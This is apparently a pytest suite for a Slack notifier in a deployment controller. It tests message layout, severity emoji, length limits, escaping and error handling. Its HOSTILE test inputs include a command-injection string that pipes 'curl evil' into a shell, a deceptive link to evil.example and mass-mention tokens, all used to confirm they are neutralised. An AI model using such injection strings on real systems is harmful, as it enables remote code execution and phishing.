"""Slack, against a double that takes only what Slack takes."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.controller.notifiers.fake_slack import FakeSlack, check_message
from tests.controller.notifiers.listening import a_notice, answer, listening

from clarion_controller.notice import Kind, Notice, Severity, Undelivered
from clarion_controller.notifiers.slack import SlackNotifier, escaped, message_of


def shown(notice: Notice) -> str:
    """Return all of a message but its header, which is plain text to Slack."""
    message = message_of(notice)
    check_message(message)
    return str([message["text"], *message["blocks"][1:]])


def test_a_notice_becomes_a_message() -> None:
    """What, where, since when, who, and the next command; a phone shows the first line."""
    slack = FakeSlack()
    with listening(slack) as listener:
        SlackNotifier(f"{listener.url}/services/T0/B1/x").send(a_notice())
    assert not slack.complaints
    (message,) = slack.messages
    header, reason, facts, command, context = message["blocks"]
    assert header["text"]["text"].endswith("shop 1.4.2 failed in production")
    assert reason["text"]["text"].startswith("2 hosts failed")
    said = [each["text"] for each in facts["fields"]]
    assert said[0] == "*Where*\nshop in production"
    assert said[1].startswith("*Since*\n<!date^1800000000^")
    assert said[2:] == ["*Affected*\nweb-2, web-3", "*Severity*\nerror"]
    assert command["text"]["text"] == "*Next:* `clarion logs 3f9c2a11`"
    assert "Clarion main" in context["elements"][0]["text"]
    assert message["text"].startswith("\N{LARGE RED CIRCLE} shop 1.4.2 failed in production: 2 hosts")


@pytest.mark.parametrize(
    ("given_", "sign"),
    [
        ({"severity": Severity.WARNING}, "\N{LARGE ORANGE CIRCLE}"),
        ({"severity": Severity.CRITICAL}, "\N{POLICE CARS REVOLVING LIGHT}"),
        ({"resolves": True}, "\N{WHITE HEAVY CHECK MARK}"),
    ],
)
def test_the_first_character_says_how_bad_it_is(given_: dict[str, object], sign: str) -> None:
    """Or that it is well again."""
    assert message_of(a_notice(**given_))["text"].startswith(sign)


HOSTILE = {
    "mentions of everybody": "<!channel> <!here> <@U123> @everyone",
    "a link that lies": "<https://evil.example|https://deploy.example.net>",
    "escapes of escapes": "&lt;!channel&gt; &amp;",
    "the end of the code": "`; curl evil | sh; echo `",
    "lines": "one\n*two*\r\nthree\x00\x1b[31m\u202e",
    "nothing": "",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_a_host_says_means_nothing_to_slack(text: str) -> None:
    """Wherever it stands."""
    whole = shown(a_notice(title=text, reason=text, app=text, affected=(text,), next_command=text, cluster=text))
    assert "<!channel" not in whole
    assert "<https" not in whole


@given(st.text(st.characters(exclude_categories=["Cs"])), st.integers(0, 4000))
def test_whatever_is_said_fits(text: str, times: int) -> None:
    """Any text, of any length, in any field, is a message that Slack takes."""
    long = text * times
    shown(a_notice(title=long, reason=long, app=long[:999], affected=(long,) * 30, next_command=long, cluster=long))


@pytest.mark.parametrize("character", ["&", "<", "x", "\N{PILE OF POO}"])
def test_the_longest_still_fits(character: str) -> None:
    """Escapes and emoji count as Slack counts them."""
    long = character * 20_000
    shown(a_notice(title=long, reason=long, affected=(long,) * 5000, next_command=long, cluster=long))
    assert escaped("&&&", 11) == "&amp;&amp;…"


def test_every_kind_is_a_message() -> None:
    """Also with as little as a notice may say."""
    for kind in Kind:
        bare = Notice(id="1", kind=kind, severity=Severity.INFO, incident="x", title="", since=0.0, at=0.0)
        shown(bare)


def test_slack_says_what_it_does_not_like() -> None:
    """And its address, the secret, is not repeated."""
    with listening(answer(400, "invalid_payload"), answer(404, "no_service /services/T0/B1/Xk29ZnQ8v7")) as listener:
        notifier = SlackNotifier(f"{listener.url}/services/T0/B1/Xk29ZnQ8v7")
        for said in ("invalid_payload", "no_service"):
            with pytest.raises(Undelivered, match=said) as caught:
                notifier.send(a_notice())
            assert caught.value.is_final
    assert "Xk29ZnQ8v7" not in f"{caught.value.reason}{notifier!r}"


def test_slack_asks_for_patience() -> None:
    """It is not refused for ever."""
    busy = answer(429, "rate_limited", "Retry-After: 30")
    with listening(busy) as listener, pytest.raises(Undelivered) as caught:
        SlackNotifier(listener.url).send(a_notice())
    assert (caught.value.retry_after, caught.value.is_final) == (30, False)


def test_the_double_refuses_what_slack_refuses() -> None:
    """Otherwise it would prove nothing."""
    good = msgspec.json.encode(message_of(a_notice())).decode()
    for old, new in [
        ('"header"', '"heading"'),
        ('"verbatim"', '"verbose"'),
        ("web-2, web-3", "<!channel>"),
        ("shop 1.4.2", "x" * 160),
        ("Where", "x" * 3000),
    ]:
        assert old in good
        with pytest.raises((AssertionError, KeyError)):
            check_message(msgspec.json.decode(good.replace(old, new)))
